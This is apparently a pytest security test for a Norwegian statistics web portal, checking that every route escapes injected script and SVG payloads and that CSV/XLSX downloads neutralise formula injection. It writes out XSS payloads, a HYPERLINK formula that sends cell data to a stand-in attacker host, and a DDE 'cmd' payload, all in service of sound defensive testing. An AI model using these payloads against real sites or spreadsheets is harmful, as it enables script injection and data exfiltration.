"""Injection through every user-supplied input that exists: each path and query parameter of every
GET route (found in ``app.routes``, so new routes are covered when they appear) gets a script/SVG
payload; HTML and SVG answers must never carry it unescaped, and nothing may answer 500. Downloads
(CSV, XLSX) must never turn text into a formula."""

from __future__ import annotations

import csv
import inspect
import io
import re
import sys
from dataclasses import dataclass
from typing import Any

import openpyxl
import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

# One payload per request (script, attribute break-out, SVG handler, JSON-in-script break-out).
PAYLOAD = "\"'></script><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
DANGEROUS = ("<script>alert(1)", "<img src=x onerror", "<svg onload", "onerror=alert(2)>")
FORMULAS = (
    '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
)

# Valid values for path parameters, so a payload in one parameter reaches the code behind it.
VALID = {
    "code": "0301",
    "indicator_id": "barn-0-17",
    "level": "kommune",
    "name": "swagger-ui.css",
    "fmt": "svg",  # the text format of image downloads: a payload there would be live markup
}
# The chart editor's free text (titles, notes) and the area parameter: tried one by one on every
# chart, image and embed route, since they end up inside SVG, PDF and embed pages.
EDITOR = ("tittel", "undertittel", "note", "fremhev", "omrade")
CHARTISH = ("/indikator/", "/sammenlign", "/krysse", "/indeks", "/embed/")
SKIP_PREFIXES = ("/static", "/vendor", "/api/docs/assets")


def _get_routes(app: FastAPI) -> list[APIRoute]:
    found: list[APIRoute] = []

    def walk(routes: Any) -> None:
        for route in routes:
            if isinstance(route, APIRoute) and "GET" in route.methods:
                found.append(route)
            inner = getattr(getattr(route, "original_router", None), "routes", None)
            if inner:
                walk(inner)

    walk(app.routes)
    return found


_READ = re.compile(r"(?:query_params|params)(?:\.get|\.getlist)?[(\[]\"([a-z_]+)\"")


# Modules that read a page's URL on its behalf (shared by the page, image and embed handlers).
URL_READERS = ("oppvekst.web.selection", "oppvekst.views.benchmark")


def _undeclared(route: APIRoute) -> set[str]:
    """Query names a page reads from the URL itself (not in the signature): in its own module or
    in the shared URL readers it calls."""
    names: set[str] = set()
    for module_name in (route.endpoint.__module__, *URL_READERS):
        module = sys.modules.get(module_name)
        if module is not None:
            names |= set(_READ.findall(inspect.getsource(module)))
    return names


def _all_read_names() -> set[str]:
    """Every query name the portal and the chart builders read."""
    names: set[str] = set()
    for name, module in list(sys.modules.items()):
        if name.startswith(("oppvekst.web.", "oppvekst.charts")) and module is not None:
            names |= set(_READ.findall(inspect.getsource(module)))
    return names


def _fill(path: str, values: dict[str, str]) -> str:
    return re.sub(r"\{([^}:]+)(:[^}]*)?\}", lambda m: values.get(m.group(1), "0301"), path)


def _cases(app: FastAPI, package_id: str) -> list[tuple[str, dict[str, str]]]:
    """(path, query) pairs: the payload in each path parameter, then in each query parameter."""
    valid = {**VALID, "package_id": package_id}
    cases: list[tuple[str, dict[str, str]]] = []
    for route in _get_routes(app):
        if route.path.startswith(SKIP_PREFIXES):
            continue
        names = re.findall(r"\{([^}:]+)", route.path)
        for name in names:
            cases.append((_fill(route.path, {**valid, name: PAYLOAD}), {}))
        base = _fill(route.path, valid)
        required = {
            p.alias: "barn-0-17" if p.alias == "indicator" else "0301"
            for p in route.dependant.query_params
            if p.field_info.is_required()
        }
        declared = {p.alias for p in route.dependant.query_params}
        for name in sorted(declared):
            cases.append((base, {**required, name: PAYLOAD}))
        if route.path.startswith("/api/"):
            continue  # the API reads only declared parameters
        everything = _all_read_names() - declared
        cases.append((base, {**required, **dict.fromkeys(everything | {"q"}, PAYLOAD)}))
        one_by_one = set() if declared else _undeclared(route) - declared
        if route.path.startswith(CHARTISH):
            one_by_one |= set(EDITOR) - declared
        for name in sorted(one_by_one):
            cases.append((base, {**required, name: PAYLOAD}))
    return cases


def _problems(response: Any, where: str) -> list[str]:
    """Ways the payload came back unescaped (empty = fine)."""
    media = response.headers.get("content-type", "")
    if "html" in media or "svg" in media or "xml" in media:
        return [f"{where}: payload unescaped ({m})" for m in DANGEROUS if m in response.text]
    if PAYLOAD in response.text:
        # Echoed in a non-HTML body (e.g. problem+json detail): harmless only because the browser
        # is told exactly what it is and must not sniff it into HTML.
        typed = media.startswith(("application/json", "application/problem+json", "text/csv"))
        if not typed or response.headers.get("x-content-type-options") != "nosniff":
            return [f"{where}: payload echoed as {media}"]
    return []


@dataclass(frozen=True)
class Walk:
    cases: int
    reflected: list[str]
    server_errors: list[str]


@pytest.fixture(scope="module")
def walk(client: TestClient, quality_app: FastAPI, store: Any) -> Walk:
    cases = _cases(quality_app, store.packages[0]["id"])
    reflected: list[str] = []
    errors: list[str] = []
    for path, query in cases:
        response = client.get(path, params=query)
        where = f"{path} {sorted(query)}"
        reflected += _problems(response, where)
        if response.status_code >= 500:
            errors.append(f"{where}: {response.status_code}")
    return Walk(len(cases), reflected, errors)


def test_every_parameter_of_every_route_escapes_script_and_svg_payloads(walk: Walk) -> None:
    assert walk.cases > 30, "the route walk found suspiciously few inputs"
    assert not walk.reflected, "\n".join(walk.reflected)


def _known_500(error: str) -> bool:
    # web/analysis.py: an unknown ?omrade= code raises KeyError (500, not the 404 page).
    return error.startswith(CHARTISH) and "'omrade'" in error


def test_no_input_makes_a_server_error_beyond_the_known_one(walk: Walk) -> None:
    unexpected = [e for e in walk.server_errors if not _known_500(e)]
    assert not unexpected, "\n".join(unexpected)


def test_unknown_area_on_the_indicator_page_is_not_a_server_error(walk: Walk) -> None:
    assert not walk.server_errors, "\n".join(walk.server_errors)


KNOWN_INPUTS = [
    ("/sok", {"q": PAYLOAD}),
    ("/kommune/" + PAYLOAD, {}),
    ("/kommune/0301", {"sammenligning": PAYLOAD}),
    ("/kommune/0301", {"gruppe": PAYLOAD, "egen": PAYLOAD}),
    ("/indikator/barn-0-17", {"omrade": PAYLOAD}),
    ("/indikator/barn-0-17", {"fane": PAYLOAD, "periode": PAYLOAD}),
    ("/statistikkbank", {"indikator": PAYLOAD}),
    ("/statistikkbank", {"indikator": "barn-0-17", "fylke": PAYLOAD, "niva": PAYLOAD}),
    ("/api/v1/data", {"indicator": PAYLOAD}),
    ("/api/v1/data", {"indicator": "barn-0-17", "region": PAYLOAD}),
    ("/api/v1/regions", {"q": PAYLOAD}),
    ("/indikator/barn-0-17/bilde.svg", {"tittel": PAYLOAD, "undertittel": PAYLOAD}),
    ("/indikator/barn-0-17/bilde.svg", {"note": PAYLOAD, "omrade": "0301"}),
    ("/indikator/barn-0-17/bilde.svg", {"fane": "kart", "tittel": PAYLOAD}),
    ("/embed/indikator/barn-0-17", {"tittel": PAYLOAD, "note": PAYLOAD}),
    ("/indikator/barn-0-17", {"tittel": PAYLOAD, "note": PAYLOAD}),
]


@pytest.mark.parametrize(("path", "query"), KNOWN_INPUTS)
def test_named_inputs_escape_the_payload(
    client: TestClient, path: str, query: dict[str, str]
) -> None:
    # The brief's inputs by name, so they stay covered even if the route walk changes.
    response = client.get(path, params=query)
    assert not _problems(response, f"{path} {query}")


def test_search_shows_the_query_back_escaped(client: TestClient) -> None:
    html = client.get("/sok", params={"q": "<b>oslo</b>"}).text
    assert "<b>oslo</b>" not in html
    assert "&lt;b&gt;oslo&lt;/b&gt;" in html  # echoed, as text


@pytest.mark.parametrize("fmt", ["png", "pdf"])
def test_binary_image_downloads_take_editor_text_without_failing(
    client: TestClient, routes: set[str], fmt: str
) -> None:
    if "/indikator/{indicator_id}/bilde.{fmt}" not in routes:
        pytest.skip("no image downloads yet")
    query = {"tittel": PAYLOAD, "note": PAYLOAD}
    response = client.get(f"/indikator/barn-0-17/bilde.{fmt}", params=query)
    assert response.status_code == 200
    assert response.content[:4] in (b"\x89PNG", b"%PDF")


# --- Downloads: formula injection -------------------------------------------------------------
def _download(store: Any) -> Any:
    from oppvekst.exports import Download

    frame = store.observations(["barn-0-17"], ["0301", "4601"], ["2024"]).head(len(FORMULAS))
    frame = frame.assign(
        region_name=list(FORMULAS[: len(frame)]), source=list(reversed(FORMULAS[: len(frame)]))
    )
    frame["flags"] = FORMULAS[0]
    return Download(frame, (store.indicator("barn-0-17"),), "s", "2026-01-01", url=FORMULAS[0])


@pytest.mark.parametrize("dialect", ["no", "plain"])
def test_csv_never_starts_a_text_cell_with_a_formula_character(store: Any, dialect: str) -> None:
    from oppvekst.exports.tabular import CsvDialect, to_csv

    text = to_csv(_download(store), CsvDialect(dialect)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";" if dialect == "no" else ","))
    text_cells = [cell for row in rows[1:] for cell in row if re.search(r"[A-Za-z|(]", cell)]
    assert any(cell.lstrip("'") in FORMULAS for cell in text_cells), "payload not in the file"
    for cell in text_cells:
        assert not cell.startswith(("=", "+", "-", "@")), cell


def test_xlsx_stores_formula_text_as_text(store: Any) -> None:
    from oppvekst.exports.workbook import to_xlsx

    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_download(store))))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.lstrip("'") in FORMULAS:
                    seen += 1
    assert seen >= len(FORMULAS)


def test_api_downloads_carry_no_formula_from_the_request(client: TestClient) -> None:
    # The request URL is written into the XLSX metadata sheet: a formula there must stay text.
    query = {
        "indicator": "barn-0-17",
        "region": "0301",
        "period": "2024",
        "format": "xlsx",
        "x": FORMULAS[0],
    }
    response = client.get("/api/v1/data", params=query)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
    query["format"] = "csv"
    text = client.get("/api/v1/data", params=query).content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        for cell in row:
            assert not cell.startswith(("=", "@", "+")), cell
